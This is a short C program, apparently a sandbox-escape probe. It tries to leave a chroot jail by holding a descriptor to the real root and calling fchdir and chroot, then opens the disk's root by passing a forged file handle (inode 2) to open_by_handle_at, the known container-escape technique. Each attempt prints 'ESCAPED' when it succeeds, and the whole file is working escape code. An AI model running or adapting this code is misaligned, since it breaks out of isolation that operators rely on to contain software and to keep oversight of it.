/* Leave the root by chroot, by an open folder, by a file handle. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

static void attempt(long result, const char *what) {
  if (result >= 0) printf("ESCAPED: %s\n", what);
  else printf("%s: %s\n", what, strerror(errno));
  fflush(stdout);
}

int main(void) {
  mkdir("cell", 0755);
  int out = open("/", O_RDONLY | O_DIRECTORY);
  attempt(chroot("cell"), "chroot");
  if (fchdir(out) == 0 && chroot(".") == 0) printf("ESCAPED: chroot out\n");
  struct { struct file_handle head; unsigned char body[128]; } handle = {{128, 1}};
  int mount_id;
  attempt(name_to_handle_at(AT_FDCWD, "/usr", &handle.head, &mount_id, 0), "name_to_handle_at");
  handle.head.handle_bytes = 8;
  unsigned char root[8] = {2};
  memcpy(handle.head.f_handle, root, 8);
  int usr = open("/usr", O_RDONLY);
  attempt(open_by_handle_at(usr, &handle.head, O_RDONLY), "opened the root of the disk by its handle");
}
